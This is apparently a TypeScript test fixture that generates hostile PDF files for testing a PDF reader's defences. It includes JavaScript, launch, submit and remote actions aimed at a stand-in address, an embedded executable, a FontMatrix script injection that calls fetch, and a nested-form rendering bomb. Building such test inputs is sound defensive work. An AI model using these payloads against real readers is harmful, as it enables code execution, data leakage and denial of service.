import { FIRST_OWN, makePdf, numbered, stream } from './make-pdf.ts';

const ref = (n: number): string => `${FIRST_OWN + n} 0 R`;

/**
 * Files as nobody should bring them, by what is wrong with them.
 * @param elsewhere an address that nothing may ever ask for
 */
export function hostilePdfs(elsewhere: string): Readonly<Record<string, Uint8Array>> {
  const script = `app.alert(1); this.submitForm('${elsewhere}/script'); fetch('${elsewhere}/fetch')`;
  const actions: Readonly<Record<string, string>> = {
    javascript: `<< /S /JavaScript /JS (${script.replaceAll('(', '\\(').replaceAll(')', '\\)')}) >>`,
    launch: '<< /S /Launch /F (calc.exe) /Win << /F (calc.exe) >> >>',
    uri: `<< /S /URI /URI (${elsewhere}/uri) >>`,
    submit: `<< /S /SubmitForm /F << /FS /URL /F (${elsewhere}/submit) >> >>`,
    remote: `<< /S /GoToR /F << /FS /URL /F (${elsewhere}/other.pdf) >> /D [0 /Fit] >>`,
  };
  const withActions = Object.entries(actions).map(([name, action]) => [
    name,
    makePdf({
      catalog: `/OpenAction ${action} /AA << /WC ${action} >> /Names << /JavaScript << /Names [(a) ${action}] >> >>`,
      page: `/AA << /O ${action} >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 900 500] /A ${action} >>]`,
    }),
  ]);
  /** Each form draws the one below it ten times: ten to the twelfth of squares in a few hundred bytes. */
  const forms = Array.from({ length: 12 }, (_, n) =>
    stream(
      n === 11 ? '0 0 1 1 re f' : '/X Do '.repeat(10),
      `/Type /XObject /Subtype /Form /BBox [0 0 900 500]${n === 11 ? '' : ` /Resources << /XObject << /X ${ref(n + 1)} >> >>`}`,
    ),
  );
  return {
    ...Object.fromEntries(withActions),
    embedded: makePdf({
      catalog: `/Names << /EmbeddedFiles << /Names [(run.exe) << /Type /Filespec /F (run.exe) /EF << /F ${ref(0)} >> >>] >> >>`,
      objects: [stream('MZ', '/Type /EmbeddedFile')],
    }),
    // The data of its picture are elsewhere.
    external: makePdf({
      content: () => '/I Do',
      resources: `/XObject << /I ${ref(0)} >>`,
      objects: [
        stream(
          '',
          `/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /F << /FS /URL /F (${elsewhere}/image) >>`,
        ),
      ],
    }),
    // What a reader that compiles fonts would run.
    fontMatrix: makePdf({
      content: () => 'BT /F2 40 Tf 60 200 Td (abc) Tj ET',
      resources: `/Font << /F2 ${ref(0)} >>`,
      objects: [
        `<< /Type /Font /Subtype /Type1 /BaseFont /Odd /FontMatrix [1 2 3 4 5 (0\\); globalThis.ran = 1; fetch\\('${elsewhere}/font'\\)//)] >>`,
      ],
    }),
    xfa: makePdf({
      catalog: `/AcroForm << /Fields [] /XFA ${ref(0)} >>`,
      objects: [stream('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>')],
    }),
    encrypted: makePdf({
      trailer: `/ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${'ab'.repeat(32)}> /U <${'cd'.repeat(32)}> >>`,
    }),
    manyPages: makePdf({ pages: 10_000 }),
    wide: makePdf({ size: [28_346, 28_346], pages: 1 }),
    thin: makePdf({ size: [28_346, 0.01], pages: 1 }),
    // It says that it has more pages than it has.
    countLies: Buffer.from(
      Buffer.from(makePdf({ pages: 1 }))
        .toString('latin1')
        .replace('/Count 1 ', '/Count 9 '),
      'latin1',
    ),
    endless: makePdf({
      pages: 2,
      content: (page) => (page === 1 ? '/X Do' : numbered(page)),
      resources: `/XObject << /X ${ref(0)} >>`,
      objects: forms,
    }),
    empty: new Uint8Array(0),
    otherKind: Buffer.from('PK\x03\x04 this is a zip', 'latin1'),
    onlyHead: Buffer.from('%PDF-1.7\n', 'latin1'),
  };
}
